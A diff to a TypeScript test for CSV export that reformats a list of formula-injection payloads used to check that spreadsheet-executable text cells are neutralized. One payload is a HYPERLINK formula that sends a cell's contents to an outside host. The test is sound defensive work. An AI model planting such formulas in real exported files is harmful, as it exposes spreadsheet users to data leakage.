@@ -13,7 +13,16 @@ const columns: CsvColumn<Vendor>[] = [
 
 describe('CSV tables', () => {
   it('neutralizes every text cell a spreadsheet would run as a formula, and leaves numbers alone (T6.1)', async () => {
-    const hostile = ['=HYPERLINK("http://x/?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1']
+    const hostile = [
+      '=HYPERLINK("http://x/?"&A1)',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '\n=1',
+      '＝1+1',
+    ]
     const text = await csvText(
       columns,
       hostile.map((name) => ({ name, amount: '-12.50' })),
